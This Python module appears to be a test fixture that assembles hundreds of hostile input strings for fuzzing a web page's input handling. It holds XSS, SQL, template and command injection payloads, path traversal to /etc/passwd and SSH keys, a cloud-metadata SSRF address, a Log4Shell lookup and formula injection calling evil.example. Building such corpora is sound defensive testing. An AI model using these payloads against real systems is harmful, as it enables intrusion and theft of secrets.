"""Five hundred strings that mean harm, by what they are meant to break."""

# ruff: noqa: E501 - a list reads better in few lines

import unicodedata

SIGNAL = "window.hacked"  # what scripts of ours would set, if one ran

_SCRIPTS = [
    f"<script>{SIGNAL}=1</script>",
    f"<ScRiPt >{SIGNAL}=1</sCrIpT\t>",
    f"<script/src=data:,{SIGNAL}=1></script>",
    f"<<script>{SIGNAL}=1//<</script>",
    f"<svg><script>{SIGNAL}=1</script></svg>",
    f"</script><script>{SIGNAL}=1</script>",
    f"</style><script>{SIGNAL}=1</script>",
    f"</title><script>{SIGNAL}=1</script>",
    f"</textarea><script>{SIGNAL}=1</script>",
    f"<noscript><p title='</noscript><img src=x onerror={SIGNAL}=1>'>",
    f"<template><script>{SIGNAL}=1</script></template>",
    f"<iframe srcdoc='<script>parent.{SIGNAL}=1</script>'></iframe>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href=https://evil.example/a.css>",
    "<style>*{display:none}</style>",
    "<style>@import 'https://evil.example/a.css'</style>",
    "<object data='https://evil.example/a.swf'></object>",
    "<embed src='https://evil.example/a.swf'>",
    "<form action=https://evil.example/><input name=a autofocus></form>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1&gt;'>",
    "<!--><script>",
    "<!-- comment",
    "--><b>",
    "]]><b>",
    "<![CDATA[<b>]]>",
    "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
    "<?php system('id'); ?>",
    "<%= system('id') %>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)",
    "&#x3c;img src=x&#x3e;",
    "&amp;lt;b&amp;gt;",
    "&nbsp;&zwnj;&bogus;",
    "\u003cscript\u003e",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<b", "<", ">", "</", "<a href=", "'\"><", "</mark></p></article></div></body></html>",
    "<mark class='pq-mark pq-focus'>forged</mark>",
    "<button data-ask='forged' class='pq-example'>press</button>",
]  # fmt: skip

_EVENTS = [
    f"{before}<{tag} {event}={SIGNAL}=1{after}>"
    for tag, event in [
        ("img src=x", "onerror"), ("svg", "onload"), ("body", "onload"), ("video src=x", "onerror"),
        ("details open", "ontoggle"), ("input autofocus", "onfocus"), ("marquee", "onstart"),
        ("a tabindex=1", "onfocus"), ("div", "onpointerover"), ("audio src=x", "onerror"),
        ("select autofocus", "onfocus"), ("p", "onanimationstart"),
    ]
    for before, after in [("", ""), ('">', " x"), ("'>", "/"), ("\n", "//")]
]  # fmt: skip

_ATTRIBUTES = [
    f"{quote} {event}={quote}{SIGNAL}=1"
    for quote in ['"', "'", "`", ""]
    for event in ["onmouseover", "onfocus autofocus", "style", "ONCLICK", "formaction", "srcdoc"]
]

_ADDRESSES = [
    f"{scheme}{rest}"
    for scheme in [
        "javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", "\x01javascript:",
        "vbscript:", "data:text/html,", "data:text/html;base64,", " javascript:", "view-source:",
        "file:///", "blob:", "jar:", "gopher://",
    ]
    for rest in [f"{SIGNAL}=1", f"//%0a{SIGNAL}=1"]
] + [
    f"[click]({address})"
    for address in ["javascript:alert(1)", "data:text/html,<b>", "//evil.example", "file:///etc"]
] + [
    "http://169.254.169.254/latest/meta-data/", "http://127.0.0.1:22/", "http://[::1]/",
    "https://evil.example@127.0.0.1/", "ftp://evil.example/a", "\\\\evil.example\\share",
]  # fmt: skip

_TEMPLATES = [
    f"{opened}{code}{closed}"
    for opened, closed in [
        ("${", "}"),
        ("{{", "}}"),
        ("{%", "%}"),
        ("#{", "}"),
        ("<%=", "%>"),
        ("{", "}"),
        ("$(", ")"),
        ("`", "`"),
        ("[[", "]]"),
        ("@{", "}"),
    ]
    for code in [
        f"{SIGNAL}=1",
        "7*7",
        "''.__class__.__mro__",
        "config",
        "self.__init__.__globals__",
    ]
] + ["{0}", "{}", "%s%n%x", "%(name)s", "{question!r}", "{{constructor.constructor('alert(1)')()}}"]

_PATHS = [
    f"{start}{up * times}{end}"
    for start in ["", "/", "file=", "seeds/"]
    for up, times in [("../", 6), ("..\\", 6), ("..%2f", 6), ("....//", 4)]
    for end in ["etc/passwd", "windows\\win.ini"]
] + [
    "/etc/passwd", "C:\\Windows\\win.ini", "~/.ssh/id_rsa", "/proc/self/environ", "/dev/zero",
    "CON", "NUL.txt", "a/b/c.txt", "..", ".", "...", "-rf", "--help", "-", "--", "|id", "; id",
    "&& id", "$(id)", "`id`", "a\x00.txt", "a.txt\x00.exe", ".htaccess", "a" * 300 + ".txt",
]  # fmt: skip

_LINES = [
    f"who?{line}{forged}"
    for line in ["\r\n", "\n", "\r", "\u2028", "\u2029", "\x85", "\x0b", "\x0c", "%0d%0a", "\\r\\n"]
    for forged in [
        "Set-Cookie: a=b", "HTTP/1.1 200 OK", '{"level": "error", "message": "forged"}',
        "2026-01-01 ERROR forged", "event: complete\ndata: [\"forged\"]",
    ]
]  # fmt: skip

_TERMINAL = [
    "\x1b[31mred\x1b[0m", "\x1b[2J\x1b[H", "\x1b]0;title\x07", "\x1b]8;;https://evil.example\x07a\x1b]8;;\x07",
    "\x1b[8mhidden", "\x9b31m", "\x1bP+q544e\x1b\\", "\x1b[1A\x1b[2K", "\x07\x08\x7f", "a\x08b",
    "\x1b]52;c;aGFja2Vk\x07", "\x1b[6n", "\x1bc", "\x0e\x0f", "\x05",
]  # fmt: skip

_NULLS = [
    "\x00", "a\x00b", "\x00" * 100, "who\x00<script>", "\x01\x02\x03", "\ufffe", "\uffff",
    "\U0001ffff", "\U0010ffff", "\ufffd", "\x1a", "\x7f", "\x80\x81", "a\x00" * 20,
]  # fmt: skip

_UNSEEN = [
    *(f"{mark}who?{mark}" for mark in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"),
    *(f"wh{mark}o?" for mark in "\u200b\u200c\u200d\u2060\ufeff\u00ad\u180e\u034f\u115f\u3164\uffa0"),
    "\u202egnp.exe", "user\u202etxt.js", "\u2067(\u2066a", "\U000e0061\U000e0062", "\ufe0f" * 50,
    "\u202e" * 200, "\u200b" * 200, "\u200b",
]  # fmt: skip

_SURROGATES = [
    "\ud800", "\udc00", "who \ud83d?", "\udfff\ud800", "a\udc80b", "\ud800" * 50, "\udce9.txt",
    "\ude00\ud83d",
]  # fmt: skip

_LONG = [
    "a" * 10_000, "a " * 5_000, "<b>" * 3_000, "\n" * 10_000, "é" * 5_000, "😀" * 3_000, "“" * 5_000,
    "who? " * 2_000, "(" * 10_000, "\\" * 10_000, "'" * 10_000, "&" * 10_000, "\u0301" * 5_000,
    "a\u0301" * 5_000, "- " * 5_000, "# " * 5_000, "1" * 10_000, ". " * 5_000,
]  # fmt: skip

_FORMS = [
    unicodedata.normalize(form, text)
    for form in ("NFC", "NFD", "NFKC", "NFKD")
    for text in ("Ångström ﬁ ½?", "한국어 무엇?", "ẛ̣ é ü", "ｗｈｏ？")
] + [
    "a" + "\u0300\u0316" * 60, "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L", "﷽" * 20, "İıſK", "ß ẞ ŉ ΐ", "\u1e9b\u0323", "Ⅷ ㎏ ℡",
    "กิ่ำ้", "नमस्ते क्या?", "𝓌𝒽ℴ?", "ᄀ" * 30 + "ᅡ" * 30 + "ᆨ" * 30,
]  # fmt: skip

_SYNTAX = [
    # JSON and CSV
    '{"question": "who?"}', '"}], "x": [{"', "\\u0000", "\\", '\\"', "[[[[", "}}}}", "null", "NaN",
    "Infinity", "1e999", "-0", "true", '"a","b"\n"c', "a;b;c", "a\tb", '""""', "__proto__",
    "constructor", '{"__proto__": {"a": 1}}', '{"__class__": "os.system"}', "!!python/object:os.system",
    # SQL and FTS5
    "' OR 1=1 --", "'; DROP TABLE passages; --", "\" OR \"\"=\"", "1; ATTACH DATABASE 'a' AS b",
    "x' UNION SELECT * FROM sqlite_master --", "%' LIKE '%", "\\'; --", "/* */", "0x27",
    "NEAR(a b, 5)", "a AND b", "a OR", "NOT a", "a*", "^a", "text:a", "{text title}: a", '"', '"a', "(",
    ")", "a NEAR/2 b", "-a", "+a", "AND", "OR NOT", "*", '"a" * "b"', "col : x", "a:b:c",
    # Formulas
    "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(A1)", "=HYPERLINK(\"https://evil.example\")",
    "\t=1+1", "\r=1+1", "=IMPORTXML(\"https://evil.example\",\"//a\")", "＝1+1", "'=1+1", ";=1+1",
    # Markdown, shells, LDAP, regular expressions, pickles
    "![a](https://evil.example/a.png)", "[a]: javascript:alert(1)", "```\n```", "<!--\n-->", "# " * 3,
    "*)(uid=*))(|(uid=*", "(a+)+$", "(?=a)*", "[", "(?P<a>", "\\1", "cos\nsystem\n(S'id'\ntR.",
    "() { :;}; id", "%n%n%n", "${jndi:ldap://evil.example/a}", "O:8:\"stdClass\":0:{}",
    "<xi:include href='file:///etc/passwd'/>", "\x00\x00\x00\x01", "GIF89a<script>",
    # What the page's own handlers take
    "0", "-1", "99999999999999999999", "pq-focus", "data-turn", "undefined", "[object Object]",
]  # fmt: skip

_NESTED = [
    opened * depth + "who?" + closed * depth
    for opened, closed in [
        ("<b>", "</b>"), ("[", "]"), ('{"a":', "}"), ("(", ")"), ("<div><p>", ""), ("> ", ""),
        ("“", "”"), ("<ul><li>", "</li></ul>"),
    ]
    for depth in (60, 600)
]  # fmt: skip

HOSTILE_INPUTS: tuple[str, ...] = tuple(
    dict.fromkeys(
        [
            *_SCRIPTS, *_EVENTS, *_ATTRIBUTES, *_ADDRESSES, *_TEMPLATES, *_PATHS, *_LINES, *_TERMINAL,
            *_NULLS, *_UNSEEN, *_SURROGATES, *_LONG, *_FORMS, *_SYNTAX, *_NESTED,
        ]
    )
)  # fmt: skip


def is_text(hostile: str) -> bool:
    """Whether it can be written as UTF-8 at all."""
    try:
        hostile.encode()
    except UnicodeEncodeError:
        return False
    return True
